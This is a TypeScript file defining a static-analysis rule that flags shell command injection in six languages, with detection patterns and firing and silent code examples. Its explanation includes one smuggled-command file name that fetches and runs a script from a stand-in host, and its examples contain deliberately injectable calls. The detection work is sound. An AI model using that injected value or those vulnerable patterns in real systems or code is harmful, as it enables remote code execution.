import { ECMASCRIPT } from '../../languages.ts';
import type { Rule, TreeRule } from '../../ruleModel.ts';
import { TEST_PATHS } from '../commonPaths.ts';
import { ECMASCRIPT_BUILT_STRING, PYTHON_BUILT_STRING } from './parts/interpolation.ts';

/** A hole that is filled by something other than a constant or the result of a quoting function. */
const ECMASCRIPT_OPEN_HOLE =
  '\\$\\{(?!\\s*(?:__dirname|__filename|process\\.(?:execPath|pid|platform|cwd\\(\\))|[A-Z][A-Z0-9_]*\\s*\\}|JSON\\.stringify|path\\.|\\w*[qQ]uote\\w*\\(|\\w*[eE]scape\\w*\\())|\\+';

const SHELL_TRUE: TreeRule = {
  has: {
    field: 'arguments',
    has: {
      kind: 'keyword_argument',
      all: [{ has: { field: 'name', regex: '^shell$' } }, { has: { field: 'value', regex: '^True$' } }],
    },
  },
};

const firstArgument = (argument: TreeRule): TreeRule => ({
  has: { field: 'arguments', has: { nthChild: 1, ...argument } },
});

export const rule: Rule = {
  id: 'command-injection',
  title: 'Shell command built from values',
  kind: 'prevention',
  severity: 'HIGH',
  problemType: 'Security',
  languages: [...ECMASCRIPT, 'python', 'go', 'java', 'ruby', 'php'],
  message: 'A value inside this shell command can end it and start another one.',
  actionRequired: 'Start the program without a shell and pass the values as separate arguments.',
  why: 'The shell reads the finished text, so a file called `a.png; curl evil.sh | sh` runs the second command too. Quoting by hand misses cases that differ between shells.',
  howToFix:
    'Give the program and its arguments as a list; nothing then reads them as shell text:\n\n```ts\nexecFile("convert", [input, output]);\n```\n\n```python\nsubprocess.run(["convert", source, target], check=True)\n```',
  references: ['https://cwe.mitre.org/data/definitions/78.html'],
  exceptPaths: [
    ...TEST_PATHS,
    '**/{scripts,script,tools,build,bench,benchmarks}/**',
    '**/*.config.{ts,js,mjs,cjs}',
  ],
  match: [
    {
      kind: 'tree',
      languages: ECMASCRIPT,
      rule: {
        kind: 'call_expression',
        all: [
          {
            has: {
              field: 'function',
              any: [
                { regex: '^(?:exec|execSync|execAsync|execPromise|execaCommand|execaCommandSync)$' },
                {
                  kind: 'member_expression',
                  all: [
                    { has: { field: 'object', regex: '^(?:child_process|childProcess|cp|shell|shelljs)$' } },
                    { has: { field: 'property', regex: '^(?:exec|execSync)$' } },
                  ],
                },
              ],
            },
          },
          firstArgument({ ...ECMASCRIPT_BUILT_STRING, pattern: '$COMMAND' }),
        ],
      },
      where: [
        { documentMatches: 'child_process|shelljs|execa' },
        { capture: 'COMMAND', matches: ECMASCRIPT_OPEN_HOLE },
      ],
      report: 'COMMAND',
    },
    {
      kind: 'tree',
      languages: ECMASCRIPT,
      rule: {
        kind: 'call_expression',
        all: [
          { has: { field: 'function', all: [{ regex: 'spawn' }, { regex: '(?:^|\\.)spawn(?:Sync)?$' }] } },
          firstArgument({ ...ECMASCRIPT_BUILT_STRING, pattern: '$COMMAND' }),
          {
            has: {
              field: 'arguments',
              has: {
                kind: 'object',
                has: {
                  kind: 'pair',
                  all: [
                    { has: { field: 'key', regex: '^shell$' } },
                    { has: { field: 'value', regex: '^true$' } },
                  ],
                },
              },
            },
          },
        ],
      },
      where: [{ capture: 'COMMAND', matches: ECMASCRIPT_OPEN_HOLE }],
      report: 'COMMAND',
    },
    {
      kind: 'tree',
      languages: ['python'],
      rule: {
        kind: 'call',
        all: [
          {
            any: [
              {
                has: {
                  field: 'function',
                  any: [
                    { pattern: 'os.system' },
                    { pattern: 'os.popen' },
                    { pattern: 'subprocess.getoutput' },
                    { pattern: 'subprocess.getstatusoutput' },
                    { pattern: 'asyncio.create_subprocess_shell' },
                  ],
                },
              },
              {
                all: [
                  {
                    has: {
                      field: 'function',
                      regex: '^(?:subprocess\\.)?(?:run|call|Popen|check_call|check_output)$',
                    },
                  },
                  SHELL_TRUE,
                ],
              },
            ],
          },
          firstArgument({ ...PYTHON_BUILT_STRING, pattern: '$COMMAND' }),
        ],
      },
      where: [
        {
          capture: 'COMMAND',
          matchesNot: 'shlex\\.(?:quote|join)|pipes\\.quote|list2cmdline|sys\\.executable',
        },
      ],
      report: 'COMMAND',
    },
    {
      kind: 'tree',
      languages: ['go'],
      rule: { any: [{ pattern: 'exec.Command($SHELL, $FLAG, $COMMAND)' }] },
      constraints: {
        SHELL: { regex: '^"(?:/bin/)?(?:sh|bash|zsh)"$' },
        FLAG: { regex: '^"-l?c"$' },
        COMMAND: {
          any: [{ kind: 'binary_expression' }, { kind: 'call_expression', regex: '^fmt\\.Sprintf\\(' }],
        },
      },
      report: 'COMMAND',
    },
    {
      kind: 'tree',
      languages: ['java'],
      rule: { pattern: '$RUNTIME.exec($COMMAND)' },
      constraints: {
        RUNTIME: { regex: '^(?:Runtime\\.getRuntime\\(\\)|runtime|rt)$' },
        COMMAND: { kind: 'binary_expression' },
      },
      report: 'COMMAND',
    },
    {
      kind: 'tree',
      languages: ['ruby'],
      rule: {
        any: [
          { kind: 'subshell', has: { kind: 'interpolation' } },
          {
            kind: 'call',
            all: [
              { has: { field: 'method', regex: '^(?:system|exec|spawn|popen)$' } },
              firstArgument({ kind: 'string', has: { kind: 'interpolation' } }),
            ],
          },
        ],
      },
      where: [{ matchesNot: 'shellescape|Shellwords' }],
    },
    {
      kind: 'tree',
      languages: ['php'],
      rule: {
        kind: 'function_call_expression',
        all: [
          { has: { field: 'function', regex: '^(?:exec|shell_exec|system|passthru|popen|proc_open)$' } },
          {
            has: {
              field: 'arguments',
              has: {
                nthChild: 1,
                has: {
                  any: [
                    { kind: 'binary_expression' },
                    { kind: 'encapsed_string', has: { kind: 'variable_name' } },
                    { kind: 'subscript_expression' },
                  ],
                },
              },
            },
          },
        ],
      },
      where: [{ matchesNot: 'escapeshell(?:arg|cmd)' }],
    },
  ],
  examples: {
    fires: [
      {
        language: 'typescript',
        code: "import { exec } from 'node:child_process';\nexec(`convert ${file} out.png`);\n",
        marks: '`convert ${file} out.png`',
      },
      {
        language: 'javascript',
        code: "const cp = require('child_process');\ncp.execSync('git log ' + branch);\n",
      },
      { language: 'tsx', code: 'spawn(`ls ${folder}`, { shell: true });\n' },
      {
        language: 'python',
        code: 'os.system(f"convert {source} out.png")\n',
        marks: 'f"convert {source} out.png"',
      },
      {
        language: 'python',
        code: 'subprocess.run("git log %s" % branch, shell=True, check=True)\nsubprocess.check_output("ls " + folder, shell=True)\n',
        count: 2,
      },
      {
        language: 'go',
        code: 'package main\n\nfunc main() {\n\texec.Command("sh", "-c", "convert "+name)\n}\n',
      },
      { language: 'java', code: 'class A { void f() { Runtime.getRuntime().exec("convert " + name); } }\n' },
      {
        language: 'ruby',
        code: 'system("convert #{name} out.png")\noutput = `git log #{branch}`\n',
        count: 2,
      },
      {
        language: 'php',
        code: '<?php\nexec("convert $name out.png");\nsystem("ls " . $_GET["dir"]);\n',
        count: 2,
      },
    ],
    silent: [
      {
        language: 'typescript',
        code: "import { exec, execFile } from 'node:child_process';\nexec('git status');\nexecFile('convert', [file, 'out.png']);\nexec(`node ${__dirname}/worker.js --port ${PORT}`);\n",
      },
      {
        language: 'javascript',
        code: 'const match = pattern.exec(`${a}${b}`);\ndb.exec(`DELETE FROM ${table}`);\nexec(`x ${y}`);\n',
      },
      { language: 'tsx', code: 'spawn("ls", [folder], { shell: true });\n' },
      {
        language: 'python',
        code: 'os.system("clear")\nsubprocess.run(["convert", source], check=True)\nsubprocess.run(f"ls {shlex.quote(folder)}", shell=True)\nsubprocess.run(command, shell=True)\n',
      },
      {
        language: 'go',
        code: 'package main\n\nfunc main() {\n\texec.Command("convert", name)\n\texec.Command("sh", "-c", script)\n}\n',
      },
      {
        language: 'java',
        code: 'class A { void f() { new ProcessBuilder("convert", name).start(); statement.exec("a" + b); } }\n',
      },
      {
        language: 'ruby',
        code: 'system("convert", name)\noutput = `git status`\nsystem("ls #{folder.shellescape}")\n',
      },
      {
        language: 'php',
        code: '<?php\nexec("convert " . escapeshellarg($name));\nexec("ls");\n$db->exec("DELETE " . $x);\n',
      },
    ],
  },
};
